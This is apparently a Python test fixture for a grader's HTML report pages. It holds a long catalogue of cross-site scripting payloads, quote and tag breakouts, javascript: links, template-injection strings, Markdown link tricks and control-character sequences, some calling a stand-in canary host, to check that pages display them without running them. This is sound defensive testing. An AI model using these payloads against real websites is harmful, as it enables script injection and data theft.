"""Texts that a page must show and never obey, and reports in which every field holds one of them."""

from __future__ import annotations

import re
from collections.abc import Callable
from dataclasses import dataclass, fields, is_dataclass, replace
from enum import Enum
from functools import cache
from itertools import count
from pathlib import Path
from types import UnionType
from typing import Any, Union, get_args, get_origin, get_type_hints

from grader.model import CheckResult, QuestionScore, Report, Verdict

CANARY = "https://canary.test"
QUESTIONS = 4  # of a report: three on which the page advises, and one more

BODY = "<p>{}</p>"
PARSED_AGAIN = "<script>onload = () => { document.body.innerHTML = document.body.innerHTML }</script>{}"
DOUBLE, SINGLE, BARE = '<p title="{}">text</p>', "<p title='{}'>text</p>", "<p title={}>text</p>"
LINK, FRAME = '<a href="{}">text</a>', '<iframe src="{}"></iframe>'
SHEET, DECLARATION = "<style>p { color: {} }</style><p>text</p>", '<p style="color: {}">text</p>'
SCRIPT = '<script>const name = "{}"</script>'

# What stands for a value that holds no text: enumerations give their first member, paths and numbers one of these.
_PLAIN = {bool: True, int: 3, float: 3.0, Path: Path("folder")}


@dataclass(frozen=True, slots=True, kw_only=True)
class Payload:
    """A hostile text, the hole in a careless page in which it would act, and what a reader must see of it."""

    name: str
    text: str
    hole: str = BODY  # empty: it acts nowhere, it only spoils what is read
    shows: str = ""  # where that is not the text itself


def _acting(hole: str, **texts: str) -> list[Payload]:
    return [Payload(name=name, text=text, hole=hole) for name, text in texts.items()]


def _spoiling(**texts: tuple[str, str] | str) -> list[Payload]:
    pairs = {name: (text, "") if isinstance(text, str) else text for name, text in texts.items()}
    return [Payload(name=name, text=text, hole="", shows=shows) for name, (text, shows) in pairs.items()]


IMAGE = "<img src=x onerror=window.__xss=1>"
_ELEMENTS = _acting(
    BODY,
    script="<script>window.__xss=1</script>",
    script_in_capitals="<ScRiPt\n>window.__xss=1</sCrIpT\t>",
    script_from_elsewhere=f"<script src={CANARY}/script.js></script>",
    image_that_fails=IMAGE,
    image_without_spaces='<img/src="x"/onerror=window.__xss=1>',
    image_that_alerts="<img src=x onerror=alert(document.title)>",
    image_that_leads_away="<img src=x onerror=location='about:blank'>",
    image_from_elsewhere=f"<img src={CANARY}/image.png>",
    image_that_fetches=f"<img src=x onerror=fetch('{CANARY}/fetched')>",
    svg_onload="<svg onload=window.__xss=1>",
    svg_script="<svg><script>window.__xss&equals;1</script></svg>",
    svg_animation="<svg><animate onbegin=window.__xss=1 attributeName=x dur=1s>",
    details_ontoggle="<details open ontoggle=window.__xss=1>text</details>",
    input_onfocus="<input autofocus onfocus=window.__xss=1>",
    video_onerror="<video><source onerror=window.__xss=1></video>",
    body_onload="<body onload=window.__xss=1>",
    style_onload="<style onload=window.__xss=1></style>",
    style_import=f'<style>@import "{CANARY}/sheet.css";</style>',
    link_to_sheet=f"<link rel=stylesheet href={CANARY}/sheet.css>",
    link_to_script="<a href=javascript:window.__xss=1>your points</a>",
    frame=f"<iframe src={CANARY}/frame></iframe>",
    frame_of_source='<iframe srcdoc="<script>parent.__xss=1</script>"></iframe>',
    frame_of_script="<iframe src=javascript:parent.__xss=1></iframe>",
    object_from_elsewhere=f"<object data={CANARY}/object></object>",
    embed_from_elsewhere=f"<embed src={CANARY}/embed>",
    meta_refresh=f'<meta http-equiv="refresh" content="0;url={CANARY}/refreshed">',
    base_href=f"<base href={CANARY}/><img src=relative.png>",
    form_action=f"<form action={CANARY}/form><button>See your points</button></form>",
    form_of_script="<form><button formaction=javascript:window.__xss=1>See your points</button></form>",
    clobbering="<a id=__xss></a><form id=overview name=body><input name=attributes></form>",
    closes_everything=f"</code></pre></div></article></section></main></body></html>{IMAGE}",
    noscript_mutation='<noscript><p title="</noscript><img src=x onerror=window.__xss=1>">',
    math_text=f"<math><mtext></mtext><mtext><table><mglyph>{IMAGE}</table></mtext></math>",
    svg_style_mutation=f'<svg></p><style><a id="</style>{IMAGE}">',
)
_BREAKOUTS = [
    *_acting(
        PARSED_AGAIN, math_mutation="<form><math><mtext></form><form><mglyph><style></math><img src onerror=window.__xss=1>"
    ),
    *_acting(
        DOUBLE,
        double_quote='" onmouseover="window.__xss=1" x="',
        double_quote_focus='" tabindex=0 autofocus onfocus="window.__xss=1" x="',
        double_quote_element=f'">{IMAGE}',
    ),
    *_acting(SINGLE, single_quote="' onmouseover='window.__xss=1' x='", single_quote_element=f"'>{IMAGE}"),
    *_acting(BARE, no_quote="x onmouseover=window.__xss=1 x", backtick="` onmouseover=window.__xss=1 x=`"),
    *_acting("<style>{}</style>", closes_style=f"</style>{IMAGE}"),
    *_acting("<title>{}</title>", closes_title=f"</title>{IMAGE}"),
    *_acting("<textarea>{}</textarea>", closes_textarea=f"</textarea>{IMAGE}"),
    *_acting("<!-- {} -->", closes_comment=f"-->{IMAGE}<!--"),
    *_acting("<svg><![CDATA[{}]]></svg>", closes_cdata=f"]]>{IMAGE}"),
    *_acting(SCRIPT, closes_script=f"</script>{IMAGE}", closes_string='"; window.__xss=1; "'),
    *_acting(
        LINK,
        javascript="javascript:window.__xss=1//",
        javascript_in_capitals="JaVaScRiPt:window.__xss=1//",
        javascript_after_a_comment="javascript://%0Awindow.__xss=1//",
        javascript_with_entity="javascript&colon;window.__xss&equals;1//",
    ),
    *_acting(FRAME, data=f"data:text/html,<img src={CANARY}/data.png>"),
    *_acting(SHEET, css_rule=f"red }} body {{ background: url({CANARY}/css.png) }} p {{ color: red"),
    *_acting(DECLARATION, css_value=f"red; background: url({CANARY}/css.png)"),
]
_BEHIND_BLANKS = [
    Payload(name="image_after_nul", text=f"\0{IMAGE}", shows=f"‹U+0000›{IMAGE}"),
    Payload(name="javascript_with_tab", text="java\tscript:window.__xss=1//", hole=LINK),
    Payload(name="javascript_with_newline", text="java\nscript:window.__xss=1//", hole=LINK),
    Payload(
        name="javascript_after_control",
        text="\x01javascript:window.__xss=1//",
        hole=LINK,
        shows="‹U+0001›javascript:window.__xss=1//",
    ),
]
_MEANT_FOR_OTHERS = _spoiling(
    css_expression="expression(window.__xss=1); behavior: url(#default); -moz-binding: url(x)",
    jinja_expression="{{7*7}} {{ ''.__class__.__mro__ }} {{ self }} {{ result.submission }}",
    jinja_statement="{% for i in (1, 2) %}xss{% endfor %}{% include 'report.css' %}{# gone #}{% raw %}",
    other_templates="${7*7} #{7*7} <%= 7*7 %> [[7*7]] %(name)s {0.__class__} $name",
    markup_of_jinja="Markup('<b>') | safe }} {% endautoescape %}",
    entities="&lt;script&gt;window.__xss=1&lt;/script&gt; &#60;b&#62; &amp;amp; &quot; &nbsp;&zwj;&rlm; &copy",
    percent_encoded="%3Cscript%3Ewindow.__xss=1%3C/script%3E",
    escapes_of_json="\\u003cscript\\u003ewindow.__xss=1\\x3c/script\\x3e",
    nested_tags="<scr<script>ipt>window.__xss=1</scr</script>ipt>",
    comment="<!-- the rest is gone",
    cdata="<![CDATA[ <b>text</b> ]]><?xml-stylesheet href='x'?><!doctype svg [<!entity a 'b'>]>",
    plaintext="<plaintext>",
    open_tag="<img src='",
    uneven_backticks="`<b>` ``<i>` `&` `",
    full_width="＜script＞window.__xss=1＜/script＞ ﹤b﹥",
    seven_bits="+ADw-script+AD4-window.__xss=1+ADw-/script+AD4-",
)
_CHARACTERS = _spoiling(
    separators=("a\u2028b\u2029c\x85d\x0be\x0cf", "a‹U+2028›b‹U+2029›c‹U+0085›d‹U+000B›e‹U+000C›f"),
    overlong=("\udcc0\udcbcscript\udcc0\udcbe", "\ufffd\ufffdscript\ufffd\ufffd"),
    overlong_as_latin_1="À¼scriptÀ¾",
    lone_surrogates=("\ud800<script>\udfff", "\ufffd<script>\ufffd"),
    noncharacters=("a\uffffb\ufdd0c\ue000d", "a‹U+FFFF›b‹U+FDD0›c‹U+E000›d"),
    nul_in_a_tag=("<scr\0ipt>window.__xss=1</scr\0ipt>", "<scr‹U+0000›ipt>window.__xss=1</scr‹U+0000›ipt>"),
    right_to_left_override=("\u202estniop 001\u202c", "‹U+202E›stniop 001‹U+202C›"),
    open_isolates=("\u2066a\u2067b\u2068c\u202ad\u202b", "‹U+2066›a‹U+2067›b‹U+2068›c‹U+202A›d‹U+202B›"),
    direction_marks=("a\u200eb\u200fc\u061cd", "a‹U+200E›b‹U+200F›c‹U+061C›d"),
    right_to_left_letters="שלום 3 من 4 نقطة (10)",
    zero_width=("con\u200bv\u200c2\u200dd\u2060x", "con‹U+200B›v‹U+200C›2‹U+200D›d‹U+2060›x"),
    blank_letters=("a\u3164b\u2800c\u115fd", "a‹U+3164›b‹U+2800›c‹U+115F›d"),
    byte_order_mark=("\ufeff<script>", "‹U+FEFF›<script>"),
    tag_characters=("a\U000e0041\U000e0042\U000e007f", "a‹U+E0041›‹U+E0042›‹U+E007F›"),
    terminal_colours=("\x1b[31mred\x1b[0m \x1b[1;32mpassed\x1b[m", "red passed"),
    terminal_orders=("\x1b[2J\x1b[Hnew\x9b31m", "‹U+001B›[2J‹U+001B›[Hnew‹U+009B›31m"),
    terminal_link=(
        f"\x1b]8;;{CANARY}/\x07see\x1b]8;;\x07",
        f"‹U+001B›]8;;{CANARY}/‹U+0007›see‹U+001B›]8;;‹U+0007›",
    ),
    backspaces=("fail\b\b\b\bpass\x7f", "fail‹U+0008›‹U+0008›‹U+0008›‹U+0008›pass‹U+007F›"),
    newlines="first\n\n\nthird\r\nfourth",
    overwritten_line="0 of 3 points\r3 of 3 points",
    long_word="unbroken" * 150,
    many_words="two words " * 60,
    piled_accents=("p" + "\u0301" * 30, "p" + "\u0301" * 4 + "‹U+0301›" * 26),
    word_that_cannot_break="क्" * 200,
)

# They act, if at all, where a page renders Markdown.
MARKDOWN = _spoiling(
    markdown_link="[your points](javascript:window.__xss=1) [b](JaVaScRiPt:window.__xss=1)",
    markdown_link_with_entities="[a](&#106;avascript&colon;window.__xss=1) [b](&#x6A;avascript&#58;window.__xss=1)",
    markdown_link_with_blanks="[a](<java\tscript:window.__xss=1>) [b](<\njavascript:window.__xss=1>)",
    markdown_link_to_data="[a](data:text/html,<script>opener.__xss=1</script>) [b](data:image/svg+xml,<svg onload=x>)",
    markdown_link_with_handler="[a](https://a.test' onfocus='window.__xss=1) [b](<https://a.test\" onfocus=\"window.__xss=1>)",
    markdown_title_with_handler="[a](https://a.test '\" onfocus=\"window.__xss=1')",
    markdown_reference="[a][b] and [c]\n\n[b]: javascript:window.__xss=1\n[c]: <data:text/html,x> 'title'\n\nend",
    markdown_autolink='<javascript:window.__xss=1> <https://a.test/"onfocus=window.__xss=1> <data:text/html,x>',
    markdown_picture=f'![a]({CANARY}/image.png) ![](javascript:window.__xss=1) ![" onerror="window.__xss=1](x)',
    markdown_picture_of_data="![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+) ![b](data:image/png;base64,AAAA)",
    markdown_nested_brackets="[[[a](javascript:window.__xss=1)](https://a.test)](javascript:window.__xss=1) ![[a](b)](c)",
    markdown_html_block=f"\n\n<div>\n{IMAGE}\n\n*a*\n</div>\n\n<script>\nwindow.__xss=1\n</script>\n\nend",
    markdown_html_in_words=f"*a* **{IMAGE}** `{IMAGE}` [{IMAGE}](https://a.test) ~~<svg onload=window.__xss=1>~~",
    markdown_svg="\n\n<svg><style><img src=x onerror=window.__xss=1></style></svg>\n\nend",
    markdown_fence=f'\n\n```" onfocus=window.__xss=1\n</code></pre>{IMAGE}\n```\n\nend',
    markdown_formula=f"${IMAGE}$ and $$</code>{IMAGE}$$",
    markdown_table=f"\n\n| {IMAGE} |\n|---|\n| </td></table>{IMAGE} |\n\nend",
    markdown_heading=f"\n\n# {IMAGE}\n\n</section></main>\n===\n\nend",
)

PAYLOADS = (*_ELEMENTS, *_BREAKOUTS, *_BEHIND_BLANKS, *_MEANT_FOR_OTHERS, *_CHARACTERS, *MARKDOWN)

_POISON = re.compile(r"[^\sA-Za-z0-9`.,;()\[\]#_\x80-\U0010ffff-]")  # no parser takes what is not ASCII for markup


def harmless(text: str) -> str:
    """Return a text of the same shape, with the same length, lines, words and backticks, that no parser can mistake."""
    return _POISON.sub("x", text)


def report_full_of(text: str, *, turn: int = 0) -> Report:
    """Return a report in which every field that can hold text holds this one and, after it, the field's own mark.

    Four questions of different verdicts are in it, and two written ones, of which one was not found; `turn` says which
    verdicts, and which comes first.
    """
    marks = count(1)

    def marked(field: str) -> str:
        return f"{text} {field}#{next(marks)}"

    verdicts = [list(Verdict)[(turn + place) % len(Verdict)] for place in range(QUESTIONS)]
    questions = tuple(_question(verdict, marked) for verdict in verdicts)
    report = filled(Report, marked)
    (found,), (asked,) = report.written, report.assignment.questions
    return replace(
        report,
        assignment=replace(report.assignment, questions=(replace(asked, id=found.question),)),
        score=replace(report.score, questions=questions),
        written=(found, replace(found, question=marked("WrittenAnswer.question"), text="", found="")),
        loading=replace(report.loading, printed_bytes=10**6),
        unreadable="",
    )


def unreadable_report_full_of(text: str) -> Report:
    """Return a report of the same sort on what could not be opened."""
    marks = count(1)
    return filled(Report, lambda field: f"{text} {field}#{next(marks)}")


def _question(verdict: Verdict, marked: Callable[[str], str]) -> QuestionScore:
    """Return a question with three checks: one that says everything, one that says nothing, one that passed."""
    score = filled(QuestionScore, marked)
    told, silent, passed = (replace(filled(CheckResult, marked), verdict=verdict) for _ in range(3))
    told = replace(told, stood_in=(score.question.id, *told.stood_in))
    silent = replace(silent, rule="", message="", counterexample=None, reproduce="", traceback="", stood_in=())
    passed = replace(passed, verdict=Verdict.PASS, message="", fraction=1.0)
    return replace(score, verdict=verdict, points=1.0, out_of=4.0, not_run=0.5, checks=(told, silent, passed))


def filled(kind: Any, marked: Callable[[str], str], field: str = "") -> Any:
    """Return a value of this type in which every text is what `marked` gives for its field ("Fault.where").

    Raises: TypeError for a type that is not known here, so that no new field stays empty unseen.
    """
    if kind is str:
        return marked(field)
    if kind in _PLAIN:
        return _PLAIN[kind]
    if isinstance(kind, type) and issubclass(kind, Enum):
        return next(iter(kind))
    if is_dataclass(kind):
        return kind(**{name: filled(type_, marked, name_of) for name, type_, name_of in _fields(kind)})
    if get_origin(kind) is tuple:
        return tuple(filled(part, marked, field) for part in get_args(kind) if part is not Ellipsis)
    if get_origin(kind) in (Union, UnionType):
        return filled(next(part for part in get_args(kind) if part is not type(None)), marked, field)
    raise TypeError(f"{field} is of type {kind}, and it is not said here how to fill that")


def fields_with_text(kind: Any) -> set[str]:
    """Return the fields ("Fault.where") in and below this type that hold text."""
    found: list[str] = []
    filled(kind, lambda field: found.append(field) or field)
    return set(found)


def changed(value: Any, change: Callable[[str], str]) -> Any:
    """Return an equal value in which every text, at any depth, is changed; enumerations and paths stay."""
    if type(value) is str:
        return change(value)
    if isinstance(value, tuple):
        return tuple(changed(part, change) for part in value)
    if is_dataclass(value):
        return replace(value, **{name: changed(getattr(value, name), change) for name, _, _ in _fields(type(value))})
    return value


@cache
def _fields(kind: Any) -> list[tuple[str, Any, str]]:
    """Return the name, the type and the full name ("Fault.where") of each field of a data class."""
    types = get_type_hints(kind)
    return [(field.name, types[field.name], f"{kind.__name__}.{field.name}") for field in fields(kind)]
